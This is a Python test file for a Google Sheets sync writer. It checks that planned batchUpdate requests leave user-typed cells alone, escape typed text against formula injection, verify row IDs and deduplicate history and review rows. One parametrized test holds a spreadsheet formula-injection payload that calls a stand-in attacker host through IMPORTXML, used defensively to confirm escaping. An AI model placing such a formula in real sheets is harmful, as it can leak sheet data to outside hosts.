"""The one batchUpdate of a sync, as planned for Google: it never touches what people
typed (DESIGN I2), writes people's text as text (I6), and asks back the cells that prove
it landed on the rows it was meant for (I3)."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest

from service.sheets import layout
from service.sheets.cells import COMPUTED_FIELDS, shown_cell
from service.sheets.errors import LayoutChanged
from service.sheets.reader import MilestoneRow, SheetRead
from service.sheets.render import Shown
from service.sheets.writer import WritePlan, check_written, plan_write
from tests.clock import START

COLUMNS = {c.key: i for i, c in enumerate(layout.COLUMNS)}
FIRST = layout.FIRST_MILESTONE_ROW
PLAN, HISTORY = 1001, 1002


def row(index: int, milestone_id: str | None, title: str) -> MilestoneRow:
    return MilestoneRow(
        row=index,
        id=milestone_id,
        row_metadata=[(index, milestone_id)] if milestone_id else [],
        inputs={"title": title, "notes": "typed by a person"},
        raw={"title": title, "notes": "typed by a person"},
        computed={},
        notes={},
    )


def sheet_read(*rows: MilestoneRow) -> SheetRead:
    return SheetRead(
        spreadsheet_id="s",
        title="t",
        map_id="x",
        sheet_ids={layout.PLAN_TAB: PLAN, layout.HISTORY_TAB: HISTORY},
        row_count=200,
        columns=dict(COLUMNS),
        table_header_row=layout.TABLE_HEADER_ROW,
        header={},
        header_raw={},
        header_cells={f.key: (f.row, layout.VALUE_COL) for f in layout.HEADER_FIELDS},
        header_computed={},
        header_notes={},
        rows=list(rows),
    )


def cells(text: str = "") -> dict[str, Shown]:
    day = START.date() + timedelta(days=30)
    return {
        "target": Shown(day),
        "projected": Shown(day),
        "health": Shown("On track"),
        "risk": Shown(text),
    }


def the_write(history: list[list[str]] | None = None, risk: str = "") -> WritePlan:
    read = sheet_read(row(FIRST, "m1", "Pricing review"), row(FIRST + 1, None, "Added step"))
    return plan_write(
        read,
        milestones={FIRST: ("m1", cells(risk)), FIRST + 1: ("m2", cells())},
        header={"health": Shown("80 · Healthy", "#d9ead3")},
        new_ids={FIRST + 1: "m2"},
        notes={(FIRST, COLUMNS["due"]): f"{layout.NOTE_PREFIX}not a date"},
        history_rows=history or [],
    )


def updates_on_the_plan(write: WritePlan) -> list[dict[str, Any]]:
    bodies = [r["updateCells"] for r in write.requests if "updateCells" in r]
    return [b for b in bodies if b["range"]["sheetId"] == PLAN]


def test_a_write_touches_only_computed_cells_notes_and_the_id_cells_it_gives() -> None:
    computed = {COLUMNS[k] for k in layout.COMPUTED_COLUMNS} | {layout.VALUE_COL}
    for body in updates_on_the_plan(the_write()):
        where = body["range"]
        columns = set(range(where["startColumnIndex"], where["endColumnIndex"]))
        if body["fields"] == "note":
            continue  # a note leaves the cell's value alone
        if body["fields"] == "userEnteredValue":
            assert columns == {COLUMNS["id"]} and where["startRowIndex"] == FIRST + 1
            continue
        assert body["fields"] == COMPUTED_FIELDS and columns <= computed, body


@pytest.mark.parametrize("text", ['=IMPORTXML("http://evil.example/x", "//a")', "+1", "-x", "@y"])
def test_text_people_typed_is_written_as_text_never_as_a_formula(text: str) -> None:
    write = the_write(
        history=[["2026-11-23 15:00", "", "Pricing review", "Notes", "", text]], risk=text
    )
    body = json.dumps(write.requests)
    assert "formulaValue" not in body
    appended = next(r["appendCells"] for r in write.requests if "appendCells" in r)
    assert appended["fields"] == "userEnteredValue"
    history_row = [c.get("userEnteredValue") for c in appended["rows"][0]["values"]]
    # As text, behind OWASP's single quote for CSV exports (test_cells.py).
    assert {"stringValue": "'" + text} in history_row
    written = [c for body in updates_on_the_plan(write) for c in body["rows"][0]["values"]]
    assert {"stringValue": "'" + text} in [c.get("userEnteredValue") for c in written]


def reply(shown: dict[tuple[int, int], str]) -> dict[str, Any]:
    """Google's reply to a write that asked for the Plan tab's cells back."""
    last_row = max(r for r, _ in shown) + 1
    last_col = max(c for _, c in shown) + 1
    rows = [
        {"values": [{"formattedValue": shown.get((r, c), "")} for c in range(last_col)]}
        for r in range(last_row)
    ]
    sheet = {"properties": {"title": layout.PLAN_TAB}, "data": [{"rowData": rows}]}
    return {"updatedSpreadsheet": {"sheets": [sheet]}}


def test_a_row_given_an_id_must_still_be_where_it_was_read() -> None:
    write = the_write()
    landed = {**write.expected}
    check_written(reply(landed), write)
    # A row inserted above: the new ID landed on the row that now sits there, whose
    # title is another milestone's.
    moved = {**landed, (FIRST + 1, COLUMNS["title"]): "Pricing review"}
    with pytest.raises(LayoutChanged):
        check_written(reply(moved), write)


REVIEWS = 1003


def test_a_review_rerun_deletes_that_days_rows_bottom_up_before_appending() -> None:
    read = sheet_read(row(FIRST, "m1", "Pricing review"))
    read.sheet_ids[layout.REVIEWS_TAB] = REVIEWS
    # Today's rows are 5-7 and, after someone moved one, 10.
    read.review_rows = {"2026-11-23": [1, 2, 3, 4], "2026-11-30": [5, 6, 7, 10]}
    write = plan_write(
        read,
        milestones={},
        header=None,
        new_ids={},
        notes={},
        review_rows=[["2026-11-30", "Review", "Weekly review since 2026-11-23", ""]],
        review_day="2026-11-30",
    )
    deleted = [
        (r["deleteDimension"]["range"]["startIndex"], r["deleteDimension"]["range"]["endIndex"])
        for r in write.requests
        if "deleteDimension" in r
    ]
    assert deleted == [(10, 11), (5, 8)]  # the lowest last: no deletion moves the next
    assert all(
        r["deleteDimension"]["range"]["sheetId"] == REVIEWS
        for r in write.requests
        if "deleteDimension" in r
    )
    assert "appendCells" in write.requests[-1]


def test_a_first_review_of_the_day_deletes_nothing() -> None:
    read = sheet_read(row(FIRST, "m1", "Pricing review"))
    read.sheet_ids[layout.REVIEWS_TAB] = REVIEWS
    read.review_rows = {"2026-11-23": [1, 2]}
    write = plan_write(
        read,
        milestones={},
        header=None,
        new_ids={},
        notes={},
        review_rows=[["2026-11-30", "Review", "", ""]],
        review_day="2026-11-30",
    )
    assert [list(r) for r in write.requests] == [["appendCells"]]


def history_row(event: str) -> list[str]:
    return ["2027-01-04 10:00", "", "Kickoff", "Status", "", "Done", "", "sheet edit", event]


def test_history_rows_already_on_the_tab_are_not_appended_again() -> None:
    read = sheet_read(row(FIRST, "m1", "Kickoff"))
    read.history_events = {"e1": [1]}
    plan = plan_write(
        read,
        milestones={},
        header=None,
        new_ids={},
        notes={},
        history_rows=[history_row("e1"), history_row("e2")],
    )
    appended = [r["appendCells"] for r in plan.requests if "appendCells" in r]
    assert len(appended) == 1 and len(appended[0]["rows"]) == 1
    assert appended[0]["rows"][0]["values"][-1]["userEnteredValue"] == {"stringValue": "e2"}


def test_an_event_found_twice_on_the_history_tab_keeps_its_first_row() -> None:
    read = sheet_read(row(FIRST, "m1", "Kickoff"))
    read.history_events = {"e1": [1, 4], "e2": [2, 3, 5]}
    plan = plan_write(read, milestones={}, header=None, new_ids={}, notes={})
    deleted = [r["deleteDimension"]["range"] for r in plan.requests if "deleteDimension" in r]
    assert [(d["sheetId"], d["startIndex"], d["endIndex"]) for d in deleted] == [
        (HISTORY, 5, 6),
        (HISTORY, 4, 5),
        (HISTORY, 3, 4),
    ]


def test_a_history_tab_made_before_the_event_column_gets_its_header() -> None:
    read = sheet_read(row(FIRST, "m1", "Kickoff"))
    read.history_event_header = False
    plan = plan_write(
        read, milestones={}, header=None, new_ids={}, notes={}, history_rows=[history_row("e1")]
    )
    headers = [r["updateCells"] for r in plan.requests if "updateCells" in r]
    assert [(h["range"]["sheetId"], h["range"]["startRowIndex"]) for h in headers] == [(HISTORY, 0)]
    assert headers[0]["range"]["startColumnIndex"] == layout.HISTORY_EVENT_COL
    assert headers[0]["rows"][0]["values"][0]["userEnteredValue"] == {"stringValue": "Event"}


def _computed_rows(write: WritePlan) -> set[int]:
    return {
        b["range"]["startRowIndex"] for b in updates_on_the_plan(write) if b["fields"] != "note"
    }


def test_a_row_read_again_unchanged_is_compared_as_before_and_a_changed_one_afresh() -> None:
    """The same row object (the reader gives it again for a row read again unchanged)
    with the same cells to show gives the same cells to write; another row object, or
    other cells to show, are compared again."""
    wanted = {k: shown_cell(Shown("x")) for k in layout.COMPUTED_COLUMNS}
    as_shown = MilestoneRow(FIRST, "m1", [], {}, {}, dict(wanted), {})

    def write(milestone: MilestoneRow, text: str = "x") -> WritePlan:
        to_show = {k: Shown(text) for k in layout.COMPUTED_COLUMNS}
        return plan_write(
            sheet_read(milestone),
            milestones={FIRST: ("m1", to_show)},
            header=None,
            new_ids={},
            notes={},
        )

    assert _computed_rows(write(as_shown)) == set()
    assert _computed_rows(write(as_shown)) == set()  # kept: still nothing to write
    assert _computed_rows(write(as_shown, "y")) == {FIRST}  # other cells to show
    assert _computed_rows(write(as_shown)) == set()
    stale = {**wanted, "health": shown_cell(Shown("Overdue"))}
    other = MilestoneRow(FIRST, "m1", [], {}, {}, stale, {})  # read again, changed
    assert _computed_rows(write(other)) == {FIRST}
